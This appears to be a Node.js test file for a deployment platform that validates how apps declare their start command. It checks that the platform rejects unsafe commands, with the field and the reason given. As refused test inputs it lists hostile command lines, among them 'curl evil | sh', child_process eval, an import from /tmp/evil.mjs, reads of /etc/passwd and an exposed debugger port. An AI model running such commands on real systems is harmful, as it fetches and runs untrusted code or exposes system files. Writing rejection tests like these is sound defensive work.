// `runtime.command`: how real apps say how they start. What the platform accepts, what it refuses (and
// says why, with the field), and that both runtimes start the same thing.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { Deployment } from 'kubernetes-models/apps/v1';
import { parse } from 'yaml';
import type { Manifest } from '../src/modules/catalog/manifest-schema.ts';
import { renderKubernetes } from '../src/modules/runtime/kubernetes-manifests.ts';
import { defaultKubernetesSettings } from '../src/modules/runtime/kubernetes-settings.ts';
import { startCommandOf } from '../src/modules/runtime/start-command.ts';
import {
  call,
  lunchPoll,
  signInEveryone as signIn,
  type signInEveryone,
  startTestServer,
  type TestServer,
} from './harness.ts';

describe('the start command', () => {
  test('entry and args, or one command line: both read as the same start', () => {
    assert.deepEqual(startCommandOf(undefined), {
      ok: true,
      start: { nodeOptions: [], entry: 'server.js', args: [] },
    });
    assert.deepEqual(startCommandOf({ entry: 'dist/main.js', args: ['--region', 'eu'] }), {
      ok: true,
      start: { nodeOptions: [], entry: 'dist/main.js', args: ['--region', 'eu'] },
    });
    assert.deepEqual(
      startCommandOf({
        command: ['node', '--enable-source-maps', '--require=./boot.cjs', './dist/main.js', '--region=eu'],
        args: ['--verbose'],
      }),
      {
        ok: true,
        start: {
          nodeOptions: ['--enable-source-maps', '--require=./boot.cjs'],
          entry: 'dist/main.js',
          args: ['--region=eu', '--verbose'],
        },
      },
    );
  });

  test('refused, each with the field and the reason: code in the manifest, a debugger, a program that is not node, a file outside the app', () => {
    const refused = (command: string[], entry?: string) => {
      const r = startCommandOf({ command, ...(entry ? { entry } : {}) });
      assert.equal(r.ok, false, command.join(' '));
      return (r as { problems: { path: string; message: string }[] }).problems;
    };
    assert.match(
      refused(['node', '-e', 'require("child_process")'])[0]!.message,
      /-e is not allowed: the app runs a file of its artifact/,
    );
    assert.match(
      refused(['node', '--eval=1', 'x.js'])[0]!.message,
      /--eval is not allowed: the app runs a file of its artifact/,
    );
    assert.match(refused(['node', '--inspect=0.0.0.0:9229', 'server.js'])[0]!.message, /no debugger port/);
    assert.match(refused(['node', '--env-file=.env', 'server.js'])[0]!.message, /--env-file is not allowed/);
    assert.match(
      refused(['node', '--import=/tmp/evil.mjs', 'server.js'])[0]!.message,
      /must name a file inside the app/,
    );
    assert.match(refused(['node', '../../etc/passwd'])[0]!.message, /must be a file inside the app/);
    assert.match(refused(['node', '/etc/passwd'])[0]!.message, /must be a file inside the app/);
    assert.match(refused(['sh', '-c', 'curl evil | sh'])[0]!.message, /a command starts with node/);
    assert.match(
      refused(['npm', 'start'])[0]!.message,
      /starts with node, the platform's Node\.js \(got "npm"\)/,
    );
    assert.match(refused(['node', '--enable-source-maps'])[0]!.message, /names no file to run/);
    const both = refused(['node', 'a.js'], 'b.js');
    assert.deepEqual(both[0], {
      path: '/runtime/entry',
      message: 'give runtime.command or runtime.entry, not both (the command names the file)',
    });
  });

  test('Kubernetes starts the same command line the local runtime does', () => {
    const manifest = {
      name: 'recon',
      owner: 'alice@example.com',
      purpose: 'Reconcile bank statements against the ledger',
      dataClasses: ['internal'],
      runtime: {
        kind: 'node',
        command: ['node', '--enable-source-maps', 'dist/main.js', 'serve'],
        args: ['--quiet'],
      },
    } as Manifest;
    const files = renderKubernetes(
      {
        site: 'recon',
        name: 'recon',
        env: 'live',
        version: '1.0.0',
        digest: `sha256:${'ab'.repeat(32)}`,
        tier: 'low',
        owner: 'alice@example.com',
        manifest,
        identityPublicKey: 'PEM',
      },
      { ...defaultKubernetesSettings, runtimeImage: `node@sha256:${'ab'.repeat(32)}` },
    );
    const deployment = new Deployment(parse(files.find((f) => f.path.endsWith('deployment.yaml'))!.content));
    deployment.validate();
    assert.deepEqual(deployment.spec!.template.spec!.containers.find((c) => c.name === 'app')!.command, [
      'node',
      '--require',
      '/run/egress/shim.cjs',
      '--enable-source-maps',
      '/app/dist/main.js',
      'serve',
      '--quiet',
    ]);
  });
});

describe('registration refuses a start command the platform would not run', () => {
  let server: TestServer;
  let t: Awaited<ReturnType<typeof signInEveryone>>;
  before(async () => {
    server = await startTestServer('sqlite');
    t = await signIn(server);
  });
  after(() => server.stop());

  test('400 with the field, and nothing registered; a good one is kept as written', async () => {
    for (const [runtime, why, pointer] of [
      [{ kind: 'node', command: ['bash', '-c', 'id'] }, /a command starts with node/, '/runtime/command/0'],
      [
        { kind: 'node', command: ['node', '--inspect', 'server.js'] },
        /no debugger port/,
        '/runtime/command/1',
      ],
      [{ kind: 'node', entry: 'server.js', command: ['node', 'main.js'] }, /not both/, '/runtime/entry'],
      [
        { kind: 'node', command: ['node'] },
        /must NOT have fewer than 2 items|at least 2|fewer than 2/i,
        null,
      ],
    ] as const) {
      const res = await call(server, 'POST', '/api/v1/apps', {
        token: t.dave,
        body: lunchPoll({ name: 'starter', runtime }),
      });
      assert.equal(res.status, 400, `${JSON.stringify(runtime)}: ${res.text}`);
      assert.match(res.text, why);
      if (pointer) assert.ok(JSON.stringify(res.body).includes(pointer), res.text);
      assert.equal((await call(server, 'GET', '/api/v1/apps/starter', { token: t.dave })).status, 404);
    }
    const good = await call(server, 'POST', '/api/v1/apps', {
      token: t.dave,
      body: lunchPoll({
        name: 'starter',
        runtime: { kind: 'node', command: ['node', '--enable-source-maps', 'dist/server.js'] },
      }),
    });
    assert.equal(good.status, 201, good.text);
  });
});
